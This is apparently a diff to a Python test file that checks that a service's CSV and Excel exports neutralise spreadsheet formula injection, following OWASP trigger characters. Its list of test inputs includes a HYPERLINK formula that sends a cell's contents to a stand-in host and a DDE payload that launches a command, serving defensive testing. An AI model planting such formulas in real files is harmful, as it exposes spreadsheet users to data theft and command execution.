@@ -17,15 +17,20 @@ import pandas as pd
 import pytest
 from fastapi.testclient import TestClient
 
-from serving.documents.formulas import TRIGGERS, defuse
+from serving.documents.formulas import defuse
 from tests.store.api_client import bearer, token
 from tests.store.published import PASSWORD
 
 pytestmark = pytest.mark.slow  # real weekly runs and an app on the shared published store
 
 WEEK = "2025-W45"
+# OWASP "CSV Injection": a cell starting with = + - @, a tab (0x09) or a carriage return (0x0D) is
+# read as a formula; WPS also takes the full-width forms. Written out here, not taken from
+# serving.documents.formulas.TRIGGERS: a trigger dropped from the code must not drop out of the check too.
+OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 ATTACKS = ['=HYPERLINK("http://x.example/?d="&A1,"点击")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
-           "\t=1+1", "＝1+1", " =1+1"]  # (a bare CR inside a CSV field is a line break to the reader)
+           "\t=1+1", "＝1+1", " =1+1", "＋SUM(1,2)", "－2+3", "＠SUM(1+1)"]
+# (a bare CR inside a CSV field is a line break to the reader: checked on defuse alone)
 ID_IN_LAND = "43312619700101777X"
 
 
@@ -77,14 +82,27 @@ def formula_cells(xlsx: bytes) -> list[str]:
     for sheet in book.worksheets:
         for row in sheet.iter_rows():
             for cell in row:
-                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(TRIGGERS)):
+                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.lstrip(" ").startswith(OWASP_TRIGGERS)):
                     bad.append(f"{cell.coordinate}={cell.value!r}")
     return bad
 
 
-def test_defuse_follows_owasp():
-    assert defuse("=1+1") == "'=1+1" and defuse("＠x") == "'＠x" and defuse(" -1") == "' -1"
-    assert defuse("石门村") == "石门村" and defuse(-0.03) == -0.03 and defuse(None) is None
+@pytest.mark.parametrize("trigger", OWASP_TRIGGERS, ids=repr)
+@pytest.mark.parametrize("lead", ["", " ", "   "], ids=["bare", "one_space", "spaces"])
+def test_defuse_follows_owasp(trigger, lead):
+    cell = f"{lead}{trigger}HYPERLINK(\"http://x.example\")"
+    assert defuse(cell) == "'" + cell
+    assert defuse(cell).lstrip(" ")[0] == "'"
+
+
+def test_defuse_leaves_plain_text_and_numbers_alone():
+    for value in ("石门村", "a=b", "1-2", "x@y", "备注\t=1", -0.03, 12, None, ""):
+        assert defuse(value) == value
+    from serving.documents.formulas import defuse_frame
+
+    frame = defuse_frame(pd.DataFrame({"＝村": ["＋1", "石门村"], "n": [-1.5, 2.0]}))
+    assert list(frame.columns) == ["'＝村", "n"] and frame["'＝村"].tolist() == ["'＋1", "石门村"]
+    assert frame["n"].tolist() == [-1.5, 2.0]
 
 
 def test_api_and_web_excel_exports_hold_no_formula(hostile):
@@ -124,7 +142,7 @@ def test_cli_feedback_export_holds_no_formula(hostile, tmp_path):
     assert json.loads(done.stdout.strip().splitlines()[-1])["rows"] == 1
     cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))) for c in row]
     assert f"'{note}" in cells
-    assert not [c for c in cells if c.lstrip(" ").startswith(TRIGGERS)]
+    assert not [c for c in cells if c.lstrip(" ").startswith(OWASP_TRIGGERS)]
 
 
 def test_an_id_number_in_a_numeric_column_is_masked_by_content_on_the_data_page(hostile):
